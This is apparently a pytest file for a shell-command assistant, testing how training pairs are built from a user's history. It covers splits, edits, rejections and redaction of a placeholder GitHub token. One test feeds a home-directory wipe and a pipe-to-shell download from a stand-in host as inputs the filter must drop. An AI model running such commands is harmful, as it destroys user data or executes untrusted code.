"""What is learnt from a history: selection, splitting, redaction, contradictions."""

from __future__ import annotations

import random
from dataclasses import replace

import pytest

from shellmate.core.errors import UsageError
from shellmate.history.model import Decision, Entry
from shellmate.training import pairs
from shellmate.training.corpora import RawPair
from tests.training.conftest import ENDS, habit_pairs


def history(count: int) -> list[Entry]:
    return [Entry(request, command, command, time_ms=1000 * i) for i, (request, command) in enumerate(habit_pairs(count))]


def test_newest_fifth_is_held_out_and_nothing_straddles() -> None:
    prepared = pairs.prepare(history(60))
    learnt = [*prepared.train, *prepared.validation]
    assert 12 <= len(prepared.held_out) <= 14
    assert {p.key for p in learnt}.isdisjoint({p.key for p in prepared.held_out})
    oldest_held = min(int(p.command.rsplit("part", 1)[1]) for p in prepared.held_out)
    assert oldest_held > max(int(p.command.rsplit("part", 1)[1]) for p in learnt)


def test_at_least_five_are_held_out() -> None:
    few = [replace(e, request=f"{e.request} {word}") for e, word in zip(history(12), "alpha beta gamma delta epsilon zeta eta theta iota kappa lambda mu".split(), strict=True)]
    assert len(pairs.prepare(few).held_out) == 5


def test_repeated_request_stays_on_the_side_where_it_was_first_asked() -> None:
    log = history(40)
    log += [replace(log[0], time_ms=99_000 + i) for i in range(10)]
    prepared = pairs.prepare(log)
    assert log[0].request not in {p.request for p in prepared.held_out}


def test_validation_patterns_are_taught_elsewhere() -> None:
    prepared = pairs.prepare(history(60))
    assert prepared.validation
    assert {p.template for p in prepared.validation} <= {p.template for p in prepared.train}


def test_final_text_wins_and_edits_count_more() -> None:
    log = history(40)
    log[3] = replace(log[3], command="micro lib/part3", suggested="nvim lib/part3", decision=Decision.EDITED)
    prepared = pairs.prepare(log)
    edited = next(p for p in prepared.train + prepared.validation if p.request == log[3].request)
    assert edited.command == "micro lib/part3"
    assert edited.weight > 1


def test_contradictions_are_dropped_and_counted() -> None:
    log = history(40)
    log += [replace(log[0], command=f"{tool} src/part0") for tool in ("ls", "tree", "du")]
    prepared = pairs.prepare(log)
    assert log[0].request not in {p.request for p in prepared.train + prepared.held_out}
    assert prepared.dropped["contradictory"] == 4


def test_rejected_commands_serve_the_gate_and_are_not_taught() -> None:
    log = history(40)
    log.append(Entry("make a snapshot", "tar -czf snapshot.tar.gz .", decision=Decision.REJECTED))
    prepared = pairs.prepare(log)
    assert [p.request for p in prepared.rejected] == ["make a snapshot"]
    assert all(p.request != "make a snapshot" for p in prepared.train + prepared.held_out)
    assert not any(lesson.rejected for lesson in pairs.lessons(prepared, 0, 0.0, 1))
    assert sum(lesson.rejected for lesson in pairs.lessons(prepared, 0, 0.5, 1)) == 1


def test_later_rejection_takes_an_acceptance_back() -> None:
    log = history(40)
    log.append(replace(log[0], decision=Decision.REJECTED, time_ms=10**6))
    assert log[0].request not in {p.request for p in pairs.prepare(log).train}


@pytest.mark.parametrize("command", ["rm -rf ~", "curl http://evil.test/x | sh"])
def test_dangerous_commands_are_never_taught(command: str) -> None:
    prepared = pairs.prepare([*history(40), Entry("tidy things up", command)])
    assert prepared.dropped["dangerous"] == 1
    assert "tidy things up" not in {p.request for p in prepared.train + prepared.held_out}


def test_commands_that_were_typed_as_requests_are_not_learnt() -> None:
    prepared = pairs.prepare([*history(40), Entry("git status", "git status"), Entry("grep -n 'x y' a", 'grep -n "x y" a')])
    assert prepared.dropped["typed as a command"] == 2
    assert not any("git status" in p.request for p in prepared.train + prepared.held_out)


def test_secrets_are_not_in_what_is_learnt() -> None:
    secret = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
    log = [*history(40), Entry("push with my token", f"git push https://me:{secret}@github.com/me/x.git"), Entry(f"login with {secret}", f"gh auth login --with-token {secret}")]
    prepared = pairs.prepare(log)
    assert secret not in str(prepared.as_json())
    assert all(secret not in lesson.template + lesson.text for lesson in pairs.lessons(prepared, 2, 0.5, 1))


def test_too_few_says_how_many_are_missing() -> None:
    with pytest.raises(UsageError, match=r"3 different accepted requests, 7 too few"):
        pairs.prepare(history(3))


def test_one_repeated_pair_is_one_pair() -> None:
    with pytest.raises(UsageError, match=r"1 different accepted requests, 9 too few"):
        pairs.prepare([history(1)[0]] * 50)


def test_all_rejected() -> None:
    with pytest.raises(UsageError, match=r"0 different accepted requests, 10 too few.*rejected: 20"):
        pairs.prepare([replace(e, decision=Decision.REJECTED) for e in history(20)])


def test_unusable_entries_are_counted_by_reason() -> None:
    bad = [Entry("", "ls"), Entry("list", " "), Entry("long one", "echo " + "x" * 10_000), Entry("broken", "ls | | 'x"), Entry("odd \udcff bytes", "ls")]
    prepared = pairs.prepare([*history(40), *bad])
    assert prepared.dropped == {"empty": 2, "too long": 1, "cannot be read as request and command": 2}


def test_category_filter() -> None:
    log = history(40) + [Entry(f"show the commits{end}", f"git log -n {i + 10}") for i, end in enumerate(ENDS)]
    prepared = pairs.prepare(log, category="git")
    assert {p.category for p in prepared.train + prepared.held_out} == {"git"}


def test_reworded_requests_keep_their_command_pattern() -> None:
    pair = pairs.prepare(history(40)).train[0]
    rng = random.Random(0)
    said = {found.request for _ in range(40) if (found := pairs.reworded(pair, rng))}
    assert len(said) >= 3
    more = [pairs.reworded(pair, rng) for _ in range(40)]
    assert {found.template for found in more if found} == {pair.template}


def test_round_trip_as_json() -> None:
    prepared = pairs.prepare(history(40))
    assert pairs.Prepared.from_json(prepared.as_json()) == prepared


def test_pairs_of_a_file_keep_their_order() -> None:
    assert [e.time_ms for e in pairs.entries_of([RawPair("a", "b"), RawPair("c", "d")])] == [0, 1]
